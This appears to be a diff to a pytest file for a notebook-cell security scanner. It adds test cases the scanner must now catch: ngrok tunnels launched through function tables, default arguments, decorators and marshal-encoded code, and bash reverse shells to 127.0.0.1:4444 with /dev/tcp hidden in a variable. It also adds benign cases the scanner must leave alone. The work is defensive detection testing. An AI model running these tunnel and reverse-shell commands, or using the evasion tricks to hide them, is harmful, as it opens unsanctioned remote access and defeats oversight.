@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import functools
 import json
+import marshal
 import os
 import shutil
 import socket
@@ -699,17 +700,55 @@ CELL_GAPS_READ = [
     ("%%script node", ["%%script node\nrequire('child_process').execSync('ngrok tcp 22')"]),
 ]
 
-#: Still open (the decorator's os.system(f) would raise TypeError, and runs nothing).
-CELL_GAPS = [
+#: Read now too (fixed in detect/cells.py: tables and defaults of functions that start
+#: programs, decorators applied bottom up, marshal data read for its strings, never loaded).
+#: A bare ``@os.system`` over a function calls os.system(f): a TypeError, nothing run.
+CELL_GAPS_READ += [
     ("a dictionary of functions", ["import os\nd = {'go': os.system}\nd['go']('ngrok tcp 22')"]),
+    ("a dictionary of functions in an earlier cell", ["import os\nd = dict(go=os.system)",
+                                                      "d['go']('ngrok tcp 22')"]),
+    ("a list of functions", ["import subprocess\nr = [print, subprocess.run]\n"
+                             "r[1](['ngrok', 'tcp', '22'])"]),
     ("a lambda's default argument", ["import os\n(lambda f=os.system: f('ngrok tcp 22'))()"]),
-    ("a decorator", ["import os\n@os.system\ndef f(): pass"]),
+    ("a function's default argument", ["import os\ndef g(run=os.system):\n    run('ngrok tcp 22')\ng()"]),
+    ("a helper's default runner", ["import subprocess\ndef sh(c, run=subprocess.run):\n"
+                                   "    return run(c, shell=True)\nsh('ngrok tcp 22')"]),
+    ("a decorator over a lambda", ["import os\n@os.system\n@lambda f: 'ngrok tcp 22'\ndef f(): pass"]),
+    ("a decorator over a helper", ["import os\ndef cmd(_):\n    return 'ngrok tcp 22'\n"
+                                   "@os.system\n@cmd\nclass C: pass"]),
     ("marshal'd code", ["import marshal, base64\nexec(marshal.loads(base64.b64decode("
                         "'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAA"
                         "AAAAAQBkAVMAKQPpAAAAAE56DG5ncm9rIHRjcCAyMikC2gJvc9oGc3lzdGVtqQDzAAAAAPoIPHN0cmluZz76CDxt"
                         "b2R1bGU+cgcAAAABAAAAcyYAAADwAwEBAdgACYAJgAmACdgACYAChAmILtEAGdQAGdAAGdAAGdAAGXIFAAAA')))"]),
-    ("/dev/tcp through a variable", ["%%bash\nP=/dev/tc\nbash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
+    ("marshal'd code of this Python", ["import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
+        compile("import subprocess\nsubprocess.run(['ngrok', 'tcp', '22'])", "x", "exec"))]),
+    ("marshal'd code padded past 4 KiB", ["import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
+        compile("import os\nX = %r\nos.system('ngrok tcp 22')" % ("x" * 6000), "x", "exec"))]),
 ]
+
+#: Read now (fixed in detect/commands.py: a redirection's target a variable spells, expanded)
+CELL_GAPS_REVERSE_SHELL = [
+    ("/dev/tcp through a variable", ["%%bash\nP=/dev/tc\nbash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
+    ("/dev/tcp through a variable on one line", ["!P=/dev/tc; bash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
+]
+
+
+@pytest.mark.parametrize("what, cells", CELL_GAPS_REVERSE_SHELL,
+                         ids=[g[0] for g in CELL_GAPS_REVERSE_SHELL])
+def test_dev_tcp_spelled_through_a_variable_is_refused(what, cells):
+    """Was missed: the run: line kept ``${P}p`` (a redirection is no argv, so the shell's
+    variables never reached it). Fixed: such a redirection is a run: line of its own,
+    expanded (``run: >& /dev/tcp/127.0.0.1/4444``)."""
+    assert "cell-reverse-shell" in _cell_signatures(*cells), what
+
+
+@pytest.mark.parametrize("cells", [
+    ["%%bash\nP=/dev/tcp\ntimeout 1 bash -c \"<$P/127.0.0.1/8888\" && echo up"],
+    ["!H=127.0.0.1; exec 3<>/dev/tcp/$H/8888; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; head -1 <&3"],
+    ["%%bash\nOUT=/tmp/log\npython train.py > $OUT 2>&1"],
+], ids=["a port check", "an HTTP check", "a log redirected"])
+def test_honest_redirections_through_variables_are_left_alone(cells):
+    assert _cell_signatures(*cells) == set()
 
 
 @pytest.mark.parametrize("what, cells", CELL_GAPS_READ, ids=[g[0] for g in CELL_GAPS_READ])
@@ -717,12 +756,31 @@ def test_cell_check_gaps_closed(what, cells):
     assert "proxy-known-tool" in _cell_signatures(*cells), what
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError,
-                   reason="not read by the cell check (the sampler sees what starts)")
-@pytest.mark.parametrize("what, cells", CELL_GAPS, ids=[g[0] for g in CELL_GAPS])
-def test_cell_check_gaps(what, cells):
-    found = _cell_signatures(*cells)
-    assert found, what
+HONEST_TABLES_DEFAULTS_DECORATORS = [
+    ("a dictionary of activations", "import torch\nacts = {'relu': torch.relu, 'gelu': torch.tanh}\n"
+                                    "y = acts['relu'](x)"),
+    ("a table of runners on an honest command", "import subprocess\nrun = {'train': subprocess.run}\n"
+                                                "run['train'](['python', 'train.py', '--epochs', '3'])"),
+    ("a table replaced by printers", "import os\nd = {'go': os.system}\nd = {'go': print}\n"
+                                     "d['go']('ngrok tcp 22 is blocked here')"),
+    ("a default logger", "(lambda log=print: log('ngrok tcp 22 is blocked'))()"),
+    ("a default runner on nvidia-smi", "import subprocess\ndef sh(cmd, run=subprocess.run):\n"
+                                       "    return run(cmd, shell=True)\nsh('nvidia-smi')"),
+    ("a cached function", "import functools\n@functools.lru_cache(maxsize=None)\n"
+                          "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)"),
+    ("a bare os.system decorator (a TypeError: nothing runs)", "import os\n@os.system\ndef f(): pass"),
+    ("a decorator naming a tool in a route", "@app.route('/ngrok')\ndef hook():\n    return 'ok'"),
+    ("marshal'd code that prints", "import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
+        compile("import os\nprint(os.path.join('ngrok', 'tcp 22'))", "x", "exec"))),
+    ("marshal'd code running nvidia-smi", "import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
+        compile("import os\nos.system('nvidia-smi -L')", "x", "exec"))),
+]
+
+
+@pytest.mark.parametrize("what, cell", HONEST_TABLES_DEFAULTS_DECORATORS,
+                         ids=[h[0] for h in HONEST_TABLES_DEFAULTS_DECORATORS])
+def test_honest_tables_defaults_decorators_and_marshal_are_left_alone(what, cell):
+    assert _cell_signatures(cell) == set(), what
 
 
 # ---------------------------------------------------------------- a frozen guard (no watcher)
